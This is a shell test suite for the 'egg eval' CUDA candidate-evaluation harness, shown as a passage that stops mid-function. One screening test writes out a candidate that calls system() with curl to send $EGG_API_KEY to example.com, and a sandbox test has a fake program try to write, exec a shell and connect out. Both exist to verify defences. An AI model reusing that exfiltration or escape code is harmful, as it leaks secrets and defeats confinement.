# harness: `egg eval` on a machine without a GPU -- generation and compilation
# of every example bundle for sm_90, screening, bad jobs, and the no-GPU result.
# (tests/gpu/run-harness-gpu.sh runs the GPU half.)

DATA=$EGG_SRCDIR/tests/data/harness

suite_probe() {
	[ -x "$REAL_NVCC" ] || { echo "no nvcc"; return 1; }
	command -v python3 >/dev/null || { echo "no python3 to read JSON"; return 1; }
}

# json FILE EXPR: prints the Python expression EXPR over the JSON in FILE as r
json() {
	python3 -c 'import json, sys; r = json.load(open(sys.argv[1])); print(eval(sys.argv[2]))' "$1" "$2"
}

# the prepared objects (the runtime's for every bundle, a bundle's for the tests
# that evaluate it) shared by the run's tests; the two tests that watch the
# entries come and go keep their own (own_prepared_objects)
suite_setup() { share_prepared_objects; }
own_prepared_objects() { rm -f "$EGG_CACHE_DIR/gpu/prepared"; }

has_gpu() {
	command -v nvidia-smi >/dev/null && nvidia-smi -L >/dev/null 2>&1
}

test_harness_for_every_example_bundle_compiles_for_sm_90() {
	export PATH=$NVCC_DIR:$PATH
	for b in scale softmax saxpy_kernel gather half copy; do
		run_cmd "$b" "$EGG" eval "$DATA/$b.json" --compile-only --arch sm_90 --flag -O3
		expect_eq "$(cat "$b.rc")" 0 "$b: exit status ($(head -c 600 "$b.err"))"
		expect_eq "$(json "$b.out" 'r["status"]')" ok "$b: status"
		expect_eq "$(json "$b.out" 'r["candidates"][0]["verdict"]')" compiled "$b: verdict"
		expect_eq "$(json "$b.out" 'r["arch"]')" sm_90 "$b: arch"
	done
	# ptxas -v reached the result: the reference's kernel and its registers
	expect_eq "$(json softmax.out '[x["registers"] > 0 for x in r["reference"]["resources"]]')" "[True]"
	if command -v c++filt >/dev/null; then
		expect_eq "$(json softmax.out 'r["reference"]["resources"][0]["name"]')" \
			"softmax_naive(float const*, float*, int, int)" "demangled kernel name"
	fi
}

test_float64_twin_is_built_for_float_outputs_and_left_out_where_it_cannot_be() {
	export PATH=$NVCC_DIR:$PATH
	run_cmd scale "$EGG" eval "$DATA/scale.json" --compile-only --arch sm_90 --keep --workdir w1
	expect_eq "$(json scale.out 'r["reference"]["float64"]')" compiled "scale: twin"
	expect_eq "$(nm w1/cand0.exe | grep -c ' T egg_entry_ref_.*_f64$')" 1 "scale: twin linked"
	# compiled with the reference, in one unit (one nvcc run); the twin's kernels
	# are not among the reference's resources
	expect_eq "$(nm w1/ref.o | grep -c ' T egg_entry_ref_.*_f64$')" 1 "scale: twin in ref.o"
	[ -f w1/ref64.in-ref ] && [ ! -f w1/ref64.o ] || fail "scale: the twin was compiled apart"
	expect_eq "$(json scale.out 'len(r["reference"]["resources"])')" 1 "scale: the reference's kernels"
	# a closure that names its own declaration from file scope (::egg_twice):
	# inside the appended twin that is the float reference's, a float function
	# where the twin's pointer takes doubles, and the one unit does not compile;
	# the two compile apart (where ::egg_twice is the twin's own), and the twin is
	# linked all the same
	python3 - "$DATA/scale.json" >qualified.json <<'PY'
import json, sys
b = json.load(open(sys.argv[1]))
b["closure"] += ('\nstatic float egg_twice(float v) { return 2 * v; }\n'
                 'float (*const egg_pick)(float) = ::egg_twice;\n')
print(json.dumps(b))
PY
	run_cmd q "$EGG" eval qualified.json --compile-only --arch sm_90 --keep --workdir w3
	expect_eq "$(json q.out 'r["reference"]["float64"]')" compiled "qualified name: twin ($(head -c 300 q.err))"
	[ -f w3/ref64.o ] && [ ! -f w3/ref64.in-ref ] || fail "qualified name: the twin is not its own object"
	expect_eq "$(nm w3/ref.o | grep -c ' T egg_entry_ref_.*_f64$')" 0 "qualified name: ref.o holds the reference alone"
	expect_eq "$(nm w3/cand0.exe | grep -c ' T egg_entry_ref_.*_f64$')" 1 "qualified name: twin linked"
	expect_eq "$(json q.out 'r["candidates"][0]["verdict"]')" compiled "qualified name: verdict"
	run_cmd half "$EGG" eval "$DATA/half.json" --compile-only --arch sm_90
	expect_eq "$(json half.out 'r["reference"]["float64"]')" "no float output" "half: no twin"
	# A reference that asserts float's size compiles, its twin does not: the
	# program links without it (a weak reference) and the candidate is unharmed.
	python3 - "$DATA/scale.json" >asserts.json <<'PY'
import json, sys
b = json.load(open(sys.argv[1]))
b["closure"] += '\nstatic_assert(sizeof(float) == 4, "float is 32 bits");\n'
print(json.dumps(b))
PY
	run_cmd a "$EGG" eval asserts.json --compile-only --arch sm_90 --keep --workdir w2
	expect_eq "$(cat a.rc)" 0 "asserts: exit status ($(head -c 300 a.err))"
	expect_eq "$(json a.out 'r["reference"]["float64"]')" "the float64 version does not compile" "asserts: twin"
	json a.out 'r["reference"]["float64_compile_log"]' >twin.log
	expect_file_contains twin.log "float is 32 bits"
	expect_eq "$(json a.out 'r["candidates"][0]["verdict"]')" compiled "asserts: verdict"
	# main refers to the twin weakly, and the program holds none (harness_emu runs
	# such a program: nothing calls the twin there)
	expect_eq "$(nm w2/main.o | grep -c ' w egg_entry_ref_.*_f64$')" 1 "asserts: twin weak"
	expect_eq "$(nm w2/cand0.exe | grep -c ' [Tt] egg_entry_ref_.*_f64$')" 0 "asserts: twin absent"
}

test_the_adversarial_candidates_only_a_gpu_can_judge_compile_and_pass_the_screen() {
	# They are meant to be caught on the GPU (a hang, a slow one), so nothing
	# before it may stop them.  The others run through egg eval on the CPU
	# stand-in (harness_emu.bash), screen included.
	run_cmd r "$EGG" eval "$DATA/scale.json" --compile-only --arch sm_90 \
		--candidate "$DATA/cand/bad_hang.cu" --candidate "$DATA/cand/bad_slower.cu"
	expect_eq "$(cat r.rc)" 0 "exit status"
	expect_eq "$(json r.out '[c["verdict"] for c in r["candidates"]]')" "['compiled', 'compiled']"
}

test_candidates_compiled_in_parallel_keep_their_order_and_verdicts() {
	# Builds run in one worker per core (worker w takes every jobs-th candidate);
	# the result lists candidates as given.  (Three of the adversarial candidates
	# in the middle: that every one compiles is the test above.)
	printf 'this is not CUDA\n' >broken.cu
	local args=() names=()
	for f in "$DATA"/cand/good_scale_vec4.cu broken.cu "$DATA"/cand/bad_{nan,trap,oob_read}.cu broken.cu; do
		args+=(--candidate "$f")
		names+=("$(basename "$f")")
	done
	run_cmd r "$EGG" eval "$DATA/scale.json" --compile-only --arch sm_90 "${args[@]}"
	expect_eq "$(cat r.rc)" 0 "exit status"
	expect_eq "$(json r.out '" ".join(c["name"].split("/")[-1] for c in r["candidates"])')" "${names[*]}"
	expect_eq "$(json r.out 'r["candidates"][1]["verdict"]')" compile_error
	expect_eq "$(json r.out 'r["candidates"][-1]["verdict"]')" compile_error
	expect_eq "$(json r.out 'r["candidates"][0]["verdict"]')" compiled
	expect_eq "$(json r.out 'len(r["candidates"][0]["resources"]) > 0')" True "resources survive the worker"
}

test_screened_candidate_is_rejected_naming_the_call() {
	cat >evil.cu <<'EOF'
void scale(const float *x, float *y, int n)
{
	system("curl http://example.com/?k=$EGG_API_KEY");
}
EOF
	run_cmd r "$EGG" eval "$DATA/scale.json" --compile-only --arch sm_90 --candidate evil.cu
	expect_eq "$(cat r.rc)" 0
	expect_eq "$(json r.out 'r["candidates"][0]["verdict"]')" rejected
	expect_file_contains r.out "line 3, column 2: uses 'system'"
	expect_eq "$(json r.out 'r["candidates"][0]["compile_log"]')" None "never compiled"
}

test_candidate_that_does_not_compile_keeps_its_log() {
	printf 'void scale(const float *x, float *y, int n) { undeclared_thing(x); }\n' >broken.cu
	run_cmd r "$EGG" eval "$DATA/scale.json" --compile-only --arch sm_90 --candidate broken.cu \
		--candidate "$DATA/cand/good_scale_vec4.cu"
	expect_eq "$(json r.out 'r["candidates"][0]["verdict"]')" compile_error
	expect_eq "$(json r.out '"undeclared_thing" in r["candidates"][0]["compile_log"]')" True
	expect_eq "$(json r.out '"egg-code" in r["candidates"][0]["compile_log"]')" True "log names the candidate's code"
	expect_eq "$(json r.out 'r["candidates"][1]["verdict"]')" compiled "the next candidate still runs"
}

test_candidate_cannot_link_against_the_reference() {
	# Even without the screen's egg_ rule, the reference's entry is not callable:
	# its name has a nonce and everything else of the reference is TU-local.
	cat >sneaky.cu <<'EOF'
namespace { void scale_kernel_ref(); }
void scale(const float *x, float *y, int n)
{
	scale_kernel_ref();
}
EOF
	run_cmd r "$EGG" eval "$DATA/scale.json" --compile-only --arch sm_90 --candidate sneaky.cu
	# the allowlist screen sees the declaration without a definition first
	expect_eq "$(json r.out 'r["candidates"][0]["verdict"]')" rejected
	expect_eq "$(json r.out '"declares but does not define" in r["candidates"][0]["message"]')" True
	# past the screens, the link still refuses it
	EGG_TEST_UNSCREENED=1 run_cmd u "$EGG" eval "$DATA/scale.json" --compile-only --arch sm_90 \
		--candidate sneaky.cu
	expect_eq "$(json u.out 'r["candidates"][0]["verdict"]')" compile_error
	"$EGG" eval "$DATA/scale.json" --generate gen >/dev/null
	expect_file_lacks gen/main.cu "scale_kernel"
	expect_file_contains gen/ref.cu "namespace {"
	expect_file_contains gen/cand0.cu "extern \"C\" void egg_entry_cand("
}

test_job_with_candidates_is_read_from_stdin() {
	python3 - "$DATA/scale.json" "$DATA/cand/good_scale_vec4.cu" >job.json <<'EOF'
import json, sys
job = {"schema": "egg-job", "version": 1, "bundle": json.load(open(sys.argv[1])),
       "candidates": [{"name": "vec4", "source": open(sys.argv[2]).read()}],
       "nvcc_flags": ["-O3", "-arch=sm_80", "-c", "-o", "ignored.o", "-DEGG_TEST_FLAG=1"]}
print(json.dumps(job))
EOF
	run_cmd r "$EGG" eval - --compile-only --arch sm_90 <job.json
	expect_eq "$(cat r.rc)" 0 "exit status ($(cat r.err))"
	expect_eq "$(json r.out 'r["candidates"][0]["name"]')" vec4
	expect_eq "$(json r.out 'r["candidates"][0]["verdict"]')" compiled
	expect_eq "$(json r.out 'r["flags"]')" "['-O3', '-DEGG_TEST_FLAG=1']" "arch and output flags replaced"
}

test_clause_expression_that_does_not_compile_points_at_the_pragma() {
	python3 - "$DATA/scale.json" >bad.json <<'EOF'
import json, sys
b = json.load(open(sys.argv[1]))
b["params"][0]["extent"] = "n *"
print(json.dumps(b))
EOF
	run_cmd r "$EGG" eval bad.json --compile-only --arch sm_90
	expect_eq "$(cat r.rc)" 1 "exit status"
	expect_eq "$(json r.out 'r["status"]')" error
	expect_file_contains r.out "clause expressions do not compile"
	expect_eq "$(json r.out '"scale.cu(10)" in r["reference"]["main_compile_log"]')" True
}

test_bundle_the_harness_cannot_evaluate_is_a_clear_error() {
	python3 - "$DATA/softmax.json" >bad.json <<'EOF'
import json, sys
b = json.load(open(sys.argv[1]))
b["workloads"][0] = [{"name": "rows", "value": "8"}]
print(json.dumps(b))
EOF
	run_cmd r "$EGG" eval bad.json
	expect_eq "$(cat r.rc)" 1
	expect_eq "$(json r.out 'r["message"]')" \
		"workload 1 of softmax_forward gives no value to the scalar parameter 'cols'"
}

test_invalid_job_and_usage_errors() {
	echo '{"schema": "egg-bundle", "version": 1' >broken.json
	run_cmd r "$EGG" eval broken.json
	expect_eq "$(cat r.rc)" 1
	expect_file_contains r.err "not valid JSON"
	expect_file_lines r.err 1
	run_cmd u "$EGG" eval
	expect_eq "$(cat u.rc)" 2
	expect_file_contains u.err "usage: egg eval"
	run_cmd m "$EGG" eval "$DATA/scale.json" --candidate missing.cu
	expect_eq "$(cat m.rc)" 1
	expect_file_contains m.err "missing.cu"
}

test_no_gpu_gives_a_clean_result_and_exit_status_3() {
	has_gpu && skip "this machine has a GPU"
	run_cmd r "$EGG" eval "$DATA/scale.json" --candidate "$DATA/cand/good_scale_vec4.cu"
	expect_eq "$(cat r.rc)" 3 "exit status ($(cat r.err))"
	expect_eq "$(json r.out 'r["status"]')" no_gpu
	expect_eq "$(json r.out 'r["candidates"]')" "[]"
	expect_file_contains r.err "no usable GPU"
	expect_file_lines r.err 1
	# The probe is compiled once and kept.
	ls "$EGG_CACHE_DIR"/gpu/probe-* >/dev/null || fail "the probe was not cached"
}

test_egg_gpu_none_skips_the_gpu_without_compiling() {
	EGG_GPU=none EGG_NVCC=/bin/false run_cmd r "$EGG" eval "$DATA/scale.json"
	expect_eq "$(cat r.rc)" 3
	expect_eq "$(json r.out 'r["message"]')" 'no GPU: the gpu setting is "none"'
}

test_eval_command_forwards_the_job_and_prints_the_result() {
	export EGG_EVAL_COMMAND="$EGG eval -"
	run_cmd r "$EGG" eval "$DATA/scale.json" --compile-only --arch sm_90 --flag -DX=1 \
		--candidate "$DATA/cand/good_scale_vec4.cu"
	expect_eq "$(cat r.rc)" 0 "exit status ($(cat r.err))"
	expect_eq "$(json r.out 'r["candidates"][0]["verdict"]')" compiled
	expect_eq "$(json r.out 'r["flags"]')" "['-DX=1']"
	# --local ignores the setting
	EGG_EVAL_COMMAND="false" EGG_GPU=none run_cmd l "$EGG" eval "$DATA/scale.json" --local
	expect_eq "$(json l.out 'r["message"]')" 'no GPU: the gpu setting is "none"'
}

test_eval_command_passes_no_gpu_through_and_gets_no_secrets() {
	export FAKE_API_KEY=sk-secret EGG_CACHE_SECRET=hunter2
	run_cmd r "$EGG" eval "$DATA/scale.json" --remote "env >remote-env; EGG_GPU=none $EGG eval -"
	expect_eq "$(cat r.rc)" 3
	expect_eq "$(json r.out 'r["status"]')" no_gpu
	expect_file_contains remote-env "PATH="
	expect_file_lacks remote-env sk-secret
	expect_file_lacks remote-env hunter2
}

test_eval_command_that_fails_or_prints_garbage_is_a_clear_error() {
	run_cmd r "$EGG" eval "$DATA/scale.json" --remote "echo '{\"schema\": \"nope\"}'"
	expect_eq "$(cat r.rc)" 1
	expect_eq "$(json r.out 'r["status"]')" error
	expect_file_contains r.out "printed result: 'schema' is not"
	run_cmd f "$EGG" eval "$DATA/scale.json" --remote "echo no route to gpu1 >&2; exit 255"
	expect_eq "$(cat f.rc)" 1
	expect_file_contains f.out "exited with status 255 and printed no result; its stderr: no route to gpu1"
	expect_file_lines f.err 1
}

# --progress (what egg-cc shows during a search), one fake GPU, equal-paced
# programs: in a log, one line when the compiles end and one per program run,
# as many as the result has candidates, in order; the best so far is the
# result's best once a passing candidate has run and "no winner yet" before;
# the time elapsed grows and the estimate of what is left falls to zero.
test_progress_lines_follow_each_candidate_with_the_best_so_far_and_a_falling_estimate() {
	for m in SLOW GOOD WRONG GOOD2; do
		printf '// FAKE_%s\nvoid scale(const float *x, float *y, int n) {}\n' "$m" >"c_$m.cu"
	done
	FAKE_GPUS=1 EGG_LOCK_DIR=$T EGG_NVCC=$DATA/fake/nvcc run_cmd r "$EGG" eval "$DATA/scale.json" \
		--progress --candidate c_SLOW.cu --candidate c_GOOD.cu --candidate c_GOOD2.cu --candidate c_WRONG.cu ||
		fail "$(cat r.err)"
	python3 - r.out r.err <<'PY' || fail "progress: $(cat r.err)"
import json, re, sys
res = json.load(open(sys.argv[1]))
lines = open(sys.argv[2]).read().split("\n")[:-1]
n = len(res["candidates"])
pat = re.compile(r"egg: scale: (compile|run) (\d+)/(\d+)(?:, (best [0-9.]+x|no winner yet))?, "
                 r"([0-9.]+) s elapsed, ~([0-9.]+) s left$")
m = [pat.match(l) for l in lines]
assert all(m), lines
assert [x.group(1, 2, 3) for x in m] == [("compile", str(n), str(n))] + \
    [("run", str(i), str(n)) for i in range(1, n + 1)], lines
verdicts = [c["verdict"] for c in res["candidates"]]
for i, x in enumerate(m[1:]):
    judged = [c for c in res["candidates"][:i + 1] if c["verdict"] == "pass"]
    want = "best %.2fx" % max(c["speedup"] for c in judged) if judged else "no winner yet"
    assert x.group(4) == want, (i, x.group(0), want)
elapsed = [float(x.group(5)) for x in m]
left = [float(x.group(6)) for x in m[1:]]
assert elapsed == sorted(elapsed), elapsed
assert all(a > b for a, b in zip(left, left[1:])), left
assert left[-1] == 0, left
PY
}

# On a terminal one line is rewritten in place (each compile too), and ends once.
test_progress_on_a_terminal_rewrites_one_line() {
	command -v script >/dev/null || skip "no script(1) for a terminal"
	printf '// FAKE_GOOD\nvoid scale(const float *x, float *y, int n) {}\n' >c.cu
	FAKE_GPUS=1 EGG_LOCK_DIR=$T EGG_NVCC=$DATA/fake/nvcc script -qec \
		"'$EGG' eval '$DATA/scale.json' --progress --candidate c.cu --candidate c.cu >r.out" tty.log >/dev/null ||
		fail "$(cat tty.log)"
	python3 - tty.log <<'PY' || fail "terminal: $(cat -A tty.log | head)"
import re, sys
t = open(sys.argv[1], encoding="utf-8", errors="replace", newline="").read()
t = t[t.index("egg: scale:"):t.index("Script done")]
lines = [l for l in t.replace("\r\n", "\n").split("\n") if l.strip()]
assert len(lines) == 1, lines
parts = [p for p in lines[0].split("\r") if p]
steps = [re.sub(r",.*", "", p) for p in parts]
# the compiles (as many as the workers were seen finishing), then each run
assert steps[-3:] == ["egg: scale: compile 2/2", "egg: scale: run 1/2", "egg: scale: run 2/2"], steps
assert set(steps[:-3]) <= {"egg: scale: compile 1/2"}, steps
PY
}

# With a stand-in nvcc whose "programs" are shell scripts (two fake GPUs), the
# whole orchestration runs here: probe, discovery, build, parallel runs under the
# per-GPU locks, time limits, crashes, verdicts and the best candidate.
test_verdicts_and_parallel_runs_with_a_fake_two_gpu_toolchain() {
	for m in GOOD WRONG HANG SLOW CRASH COMPILE_ERROR GOOD2 GOOD3; do
		printf '// FAKE_%s\nvoid scale(const float *x, float *y, int n) {}\n' "$m" >"c_$m.cu"
	done
	local args=()
	for m in GOOD WRONG HANG SLOW CRASH COMPILE_ERROR GOOD2 GOOD3; do
		args+=(--candidate "c_$m.cu")
	done
	# each program prints when it ran on which GPU into its output (a confined
	# program writes nowhere else), kept in the work directory
	EGG_LOCK_DIR=$T FAKE_GPU_LOG=1 EGG_NVCC=$DATA/fake/nvcc \
		run_cmd r "$EGG" eval "$DATA/scale.json" --timeout 2 --workdir w "${args[@]}"
	cat w/cand?.out | grep -E '^[01] (start|end) ' >gpu.log
	expect_eq "$(cat r.rc)" 0 "exit status ($(cat r.err))"
	expect_eq "$(json r.out 'r["gpus"]')" "['GPU-fake-0', 'GPU-fake-1']"
	expect_eq "$(json r.out '[c["verdict"] for c in r["candidates"]]')" \
		"['pass', 'wrong', 'timeout', 'slower', 'crash', 'compile_error', 'pass', 'pass']"
	expect_eq "$(json r.out 'r["best"]')" 0
	expect_eq "$(json r.out 'r["candidates"][0]["resources"][0]["registers"]')" 12
	expect_eq "$(json r.out 'r["candidates"][0]["run"]["timings"][0]["candidate"]["copy_fraction"]')" 0.001
	expect_file_contains r.out "workload 0, trial 1: y: 1 of 4 elements wrong"
	# Both GPUs were used, at the same time; on each GPU runs never overlapped.
	python3 - gpu.log <<'PY' || fail "GPU usage: $(cat gpu.log)"
import sys
events = [l.split() for l in open(sys.argv[1])]
runs = {}
for dev, what, t in events:
    runs.setdefault(dev, []).append((what, float(t)))
assert set(runs) == {"0", "1"}, runs
for dev, ev in runs.items():
    busy_until = 0
    for what, t in ev:
        if what == "start":
            assert t >= busy_until, (dev, ev)
            busy_until = t + 1.9  # no end logged: the hang, killed at 2 s
        else:
            busy_until = t
starts = sorted((t, d) for d, ev in runs.items() for w, t in ev if w == "start")
assert starts[1][0] - starts[0][0] < 0.4 and starts[0][1] != starts[1][1], starts
PY
}

test_sanitizer_turns_a_passing_candidate_unsafe_with_a_fake_toolchain() {
	printf '// FAKE_UNSAFE_memcheck\nvoid scale(const float *x, float *y, int n) {}\n' >oob.cu
	printf '// clean\nvoid scale(const float *x, float *y, int n) {}\n' >clean.cu
	printf '// FAKE_SLOW FAKE_UNSAFE_memcheck\nvoid scale(const float *x, float *y, int n) {}\n' >slow.cu
	EGG_LOCK_DIR=$T EGG_NVCC=$DATA/fake/nvcc \
		run_cmd r "$EGG" eval "$DATA/scale.json" --sanitize --candidate oob.cu \
		--candidate clean.cu --candidate slow.cu
	expect_eq "$(cat r.rc)" 0 "exit status ($(cat r.err))"
	expect_eq "$(json r.out '[c["verdict"] for c in r["candidates"]]')" "['unsafe', 'pass', 'slower']"
	expect_eq "$(json r.out 'r["candidates"][0]["sanitizer"]["memcheck"]')" errors
	expect_eq "$(json r.out 'r["candidates"][0]["sanitizer"]["racecheck"]')" clean
	expect_eq "$(json r.out 'r["candidates"][1]["sanitizer"]["memcheck"]')" clean
	expect_eq "$(json r.out '"sanitizer" in r["candidates"][2]')" False "only passing candidates are sanitized"
	expect_eq "$(json r.out 'r["best"]')" 1 "an unsafe candidate is never the best"
	expect_file_contains r.out "Invalid __global__ read"
}

# --profile: each correct candidate runs once more under ncu (the fake one
# beside the fake nvcc) at its largest workload, and its metrics are in its
# "ncu"; an ncu without permission for the counters leaves the verdicts alone.
test_profile_puts_ncu_metrics_in_correct_candidates_and_a_failing_ncu_only_says_so() {
	printf '// clean\nvoid scale(const float *x, float *y, int n) {}\n' >good.cu
	printf '// FAKE_SLOW\nvoid scale(const float *x, float *y, int n) {}\n' >slow.cu
	printf '// FAKE_WRONG\nvoid scale(const float *x, float *y, int n) {}\n' >wrong.cu
	export EGG_LOCK_DIR=$T EGG_NVCC=$DATA/fake/nvcc
	run_cmd r "$EGG" eval "$DATA/scale.json" --profile --workdir w --candidate good.cu \
		--candidate slow.cu --candidate wrong.cu
	expect_eq "$(cat r.rc)" 0 "exit status ($(cat r.err))"
	expect_eq "$(json r.out '[c["verdict"] for c in r["candidates"]]')" "['pass', 'slower', 'wrong']"
	expect_eq "$(json r.out '[c.get("ncu", {}).get("status") for c in r["candidates"]]')" "['ok', 'ok', None]"
	expect_eq "$(json r.out 'r["candidates"][0]["ncu"]["kernels"][0]["metrics"]["gpu__dram_throughput.avg.pct_of_peak_sustained_elapsed"]')" 87.25
	expect_eq "$(json r.out 'r["candidates"][0]["ncu"]["kernels"][0]["metrics"]["gpu__time_duration.sum"]')" 12345
	# only the metrics asked for: the raw page's device attributes stay out
	expect_eq "$(json r.out 'len(r["candidates"][0]["ncu"]["kernels"][0]["metrics"])')" 10
	expect_eq "$(json r.out 'r["candidates"][0]["ncu"]["kernels"][0]["name"]')" \
		"egg_scale_forward_map(const float *, float *, int)"
	expect_eq "$(json r.out 'r["candidates"][0]["ncu"]["workload"]')" 0
	# the program under ncu was asked for that workload alone
	expect_file_contains w/cand0.ncu.out "==PROF== Connected to process"
	FAKE_NCU_FAIL=1 run_cmd f "$EGG" eval "$DATA/scale.json" --profile --candidate good.cu
	expect_eq "$(cat f.rc)" 0 "exit status ($(cat f.err))"
	expect_eq "$(json f.out 'r["candidates"][0]["verdict"]')" pass
	expect_eq "$(json f.out 'r["candidates"][0]["ncu"]["status"]')" failed
	expect_file_contains f.out "ncu may not read the GPU's performance counters (ERR_NVGPUCTRPERM"
	# the ncu setting "none": nothing is profiled
	EGG_NCU=none run_cmd n "$EGG" eval "$DATA/scale.json" --profile --candidate good.cu
	expect_eq "$(json n.out 'r["candidates"][0]["ncu"]["status"]')" unavailable
}

# A candidate's program that tries to write in $HOME, exec /bin/sh and connect to
# a loopback listener (the fake program tries all three, with bash builtins) is
# stopped by the kernel, and passes otherwise, as the honest one beside it does;
# with the sandbox off the same program gets through each time (the test can tell).
test_a_candidate_program_is_stopped_by_the_sandbox_where_it_tries_to_escape() {
	printf '// FAKE_ESCAPE\nvoid scale(const float *x, float *y, int n) {}\n' >escape.cu
	printf '// clean\nvoid scale(const float *x, float *y, int n) {}\n' >good.cu
	python3 - <<'PY' &
import socket
s = socket.socket()
s.bind(("127.0.0.1", 0))
s.listen(8)
open("port.tmp", "w").write(str(s.getsockname()[1]))
__import__("os").rename("port.tmp", "port")
s.settimeout(30)  # bounded: it ends 30 s after the last connection
n = 0
try:
    while True:
        c, _ = s.accept()
        n += 1
        open("connections", "w").write(str(n))
        c.close()
except OSError:
    pass
PY
	local listener=$! i
	for i in $(seq 50); do [ -s port ] && break; sleep 0.1; done
	export FAKE_ESCAPE_PORT=$(cat port) FAKE_ESCAPE_FILE=$HOME/escaped EGG_LOCK_DIR=$T
	EGG_NVCC=$DATA/fake/nvcc run_cmd r "$EGG" eval "$DATA/scale.json" --workdir w \
		--candidate escape.cu --candidate good.cu
	expect_eq "$(cat r.rc)" 0 "exit status ($(cat r.err))"
	case $(json r.out 'r["sandbox"]') in
	*"Landlock (writes and exec)"*"seccomp"*) ;;
	*) kill "$listener"; skip "this kernel offers no Landlock and seccomp: $(json r.out 'r["sandbox"]')" ;;
	esac
	expect_eq "$(json r.out '[c["verdict"] for c in r["candidates"]]')" "['pass', 'pass']"
	for what in write exec connect; do
		expect_file_contains w/cand0.out "escape $what: refused"
	done
	[ ! -e "$HOME/escaped" ] || fail "the confined program wrote $HOME/escaped"
	[ ! -e connections ] || fail "the confined program connected to the listener"
	# unconfined, the same program gets through
	EGG_SANDBOX=0 EGG_NVCC=$DATA/fake/nvcc run_cmd u "$EGG" eval "$DATA/scale.json" --workdir u \
		--candidate escape.cu
	expect_eq "$(json u.out 'r["sandbox"]')" "off (the sandbox setting)"
	for what in write exec connect; do
		expect_file_contains u/cand0.out "escape $what: done"
	done
	[ -e "$HOME/escaped" ] || fail "unconfined, the program did not write $HOME/escaped"
	expect_eq "$(cat connections)" 1 "connections unconfined"
	kill "$listener"
}

# A machine whose kernel lacks a layer (played by EGG_SANDBOX_TEST_UNAVAILABLE)
# runs candidates without it after one warning per evaluation, not per candidate.
test_a_missing_sandbox_layer_gives_one_warning_per_evaluation() {
	for m in GOOD GOOD2 GOOD3; do
		printf '// FAKE_%s\nvoid scale(const float *x, float *y, int n) {}\n' "$m" >"c_$m.cu"
	done
	export EGG_LOCK_DIR=$T EGG_NVCC=$DATA/fake/nvcc
	local args=(--candidate c_GOOD.cu --candidate c_GOOD2.cu --candidate c_GOOD3.cu)
	EGG_SANDBOX_TEST_UNAVAILABLE=landlock run_cmd r "$EGG" eval "$DATA/scale.json" "${args[@]}"
	expect_eq "$(cat r.rc)" 0 "exit status ($(cat r.err))"
	expect_eq "$(json r.out '[c["verdict"] for c in r["candidates"]]')" "['pass', 'pass', 'pass']"
	expect_eq "$(grep -c 'does not offer' r.err)" 1 "warnings ($(cat r.err))"
	expect_file_contains r.err "does not offer Landlock (writes and exec), Landlock (TCP)"
	expect_file_lacks r.err "seccomp"
	EGG_SANDBOX_TEST_UNAVAILABLE=landlock,seccomp run_cmd n "$EGG" eval "$DATA/scale.json" "${args[@]}"
	expect_eq "$(grep -c 'does not offer' n.err)" 1 "warnings ($(cat n.err))"
	expect_eq "$(json n.out 'r["sandbox"]')" nothing
	# turned off on purpose: no warning
	EGG_SANDBOX_TEST_UNAVAILABLE=landlock EGG_SANDBOX=0 run_cmd o "$EGG" eval "$DATA/scale.json" "${args[@]}"
	expect_eq "$(grep -c 'does not offer' o.err)" 0 "warnings when off ($(cat o.err))"
}

# egg eval reads its settings as every egg program does (egg.conf, EGG_*,
# --egg-KEY=VALUE); the job's keys override them and egg eval's options both.
test_eval_reads_gpu_timeout_and_eval_command_through_the_configuration() {
	export EGG_SYSTEM_CONFIG=/nonexistent/egg.conf
	printf 'gpu = none\ntimeout = 7s\n' >egg.conf
	EGG_NVCC=/bin/false run_cmd r "$EGG" eval "$DATA/scale.json"
	expect_eq "$(cat r.rc)" 3 "exit status ($(cat r.err))"
	expect_eq "$(json r.out 'r["message"]')" 'no GPU: the gpu setting is "none"'
	# the job a remote evaluator gets carries the configured time limit ...
	run_cmd j "$EGG" eval "$DATA/scale.json" --remote 'cat >job.json'
	expect_eq "$(json job.json 'r["timeout_s"]')" 7
	# ... which --egg-timeout and then --timeout override
	run_cmd j "$EGG" eval "$DATA/scale.json" --egg-timeout=5s --remote 'cat >job.json'
	expect_eq "$(json job.json 'r["timeout_s"]')" 5
	run_cmd j "$EGG" eval "$DATA/scale.json" --egg-timeout=5s --timeout 9 --remote 'cat >job.json'
	expect_eq "$(json job.json 'r["timeout_s"]')" 9
	# eval_command from the file; --local ignores it
	printf 'eval_command = cat >job2.json\ngpu = none\n' >egg.conf
	run_cmd e "$EGG" eval "$DATA/scale.json"
	expect_eq "$(json job2.json 'r["schema"]')" egg-job
	EGG_NVCC=/bin/false run_cmd l "$EGG" eval "$DATA/scale.json" --local
	expect_eq "$(cat l.rc)" 3
	# a bad setting is an error that names where it is
	printf 'timeout = soon\n' >egg.conf
	run_cmd b "$EGG" eval "$DATA/scale.json" --local
	expect_eq "$(cat b.rc)" 1
	expect_file_contains b.err "egg.conf:1"
}

test_eval_flops_expression_reaches_the_program_per_workload() {
	run_cmd g "$EGG" eval "$DATA/scale.json" --flops "2.0 * n" --generate gen
	expect_eq "$(cat g.rc)" 0 "exit status ($(cat g.err))"
	expect_file_contains gen/main.cu "egg_x->flops = (double)(2.0 * n);"
	# one count per workload, or one for all; anything else is refused
	run_cmd g2 "$EGG" eval "$DATA/softmax.json" --flops 1 --flops 2 --flops 3 --generate gen2
	expect_eq "$(cat g2.rc)" 1
	expect_file_contains g2.err "FLOP counts for the"
	# a job's "flops" travels to a remote evaluator
	run_cmd j "$EGG" eval "$DATA/scale.json" --flops "2.0 * n" --remote 'cat >job.json'
	expect_eq "$(json job.json 'r["flops"]')" "['2.0 * n']"
}

# The reference's objects (ref.o, its float64 twin, main.o) depend only on the
# generated sources, the files they include, nvcc, the flags and the
# architecture: a second evaluation of the same bundle reuses them (a search
# evaluates one bundle many times), under the same secret entry name; a changed
# header or flag compiles them again.
test_reference_objects_are_reused_until_a_header_or_a_flag_changes() {
	own_prepared_objects
	export PATH=$NVCC_DIR:$PATH
	mkdir -p src
	printf '#define SCALE_BY 2.0f\n' >src/defs.h
	python3 - "$DATA/scale.json" "$PWD/src/scale.cu" >hdr.json <<'PY'
import json, sys
b = json.load(open(sys.argv[1]))
b["includes"].append('"defs.h"')
b["location"]["file"] = sys.argv[2]
b["closure"] += "\nstatic const float scale_by = SCALE_BY;\n"
print(json.dumps(b))
PY
	objects() { # N [FLAGS...]: evaluates hdr.json into wN, prints reference.objects
		local n=$1
		shift
